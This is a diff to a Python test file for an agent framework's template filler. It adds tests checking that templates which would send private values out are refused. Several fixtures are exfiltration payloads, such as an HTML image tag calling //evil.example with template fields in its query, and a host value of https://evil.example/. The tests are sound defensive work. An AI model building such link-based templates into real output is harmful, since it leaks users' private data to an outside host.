@@ -1,9 +1,10 @@
 """Templates are filled by rule: nothing in a private value is ever read as an instruction."""
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from hybridmesh.agents.worker.template import fill, names_in
+from hybridmesh.agents.worker.template import carries_out, fill, names_in
 
 names = st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True)
 values = st.text(
@@ -59,8 +60,8 @@ def test_a_value_is_put_in_as_it_is_and_never_read_again(name: str, value: str) 
 
 @given(st.text(max_size=200), st.dictionaries(names, values, max_size=4))
 def test_any_template_can_be_filled(template: str, known: dict[str, str]) -> None:
-    """Nothing is lost: whatever the cloud wrote, filling ends in a text."""
-    assert isinstance(fill(template, known, dict.fromkeys(known)), str)
+    """Nothing is lost: whatever the cloud wrote, filling ends in a text or a refusal."""
+    assert isinstance(fill(template, known, dict.fromkeys(known)), str | None)
 
 
 @given(st.dictionaries(names, values, min_size=1, max_size=4))
@@ -68,3 +69,28 @@ def test_all_names_of_a_template_are_known_before_it_is_used(known: dict[str, st
     """Nothing is hidden: a name that nothing can fill is found when the framework arrives."""
     template = "\n".join(f"{{?{name}}}x {{{name}}}" for name in known)
     assert names_in(template) == set(known)
+
+
+@pytest.mark.parametrize(
+    ("template", "values"),
+    [
+        ('<img src="//evil.example/?q=\n{?urgent}">\n{who}">', {}),
+        ('<img src="//evil.example/?q=\n{gone}">\n{who}">', {}),
+        ("{?who}{!urgent}[id]: {who}", {}),
+        ("{host}{who}", {"host": "https://evil.example/"}),
+        ("{who}{host}", {"host": ".evil.example"}),
+        ("![x]{open}\\){who})", {"open": "(/a"}),
+    ],
+)
+def test_a_value_that_would_leave_in_the_finished_text_is_refused(template: str, values: dict[str, str]) -> None:
+    """Nothing private leaves: what lines that go and formulas make of a template is looked at, too."""
+    assert fill(template, {"who": "Ana", **values}, {"urgent": False}) is None
+
+
+@pytest.mark.parametrize(
+    "template", ["{a}/{b} on {day}.{month}.", "[{a}] ({b})", "<b>{a}</b> > {b}", "https://e.example/ {a}. {b}"]
+)
+def test_a_value_that_stays_is_put_in(template: str) -> None:
+    """It runs on what you have: what looks a little like a link does not cost the framework."""
+    assert not carries_out(template)
+    assert fill(template, {"a": "1", "b": "Ana", "day": "4", "month": "5"}, {}) is not None
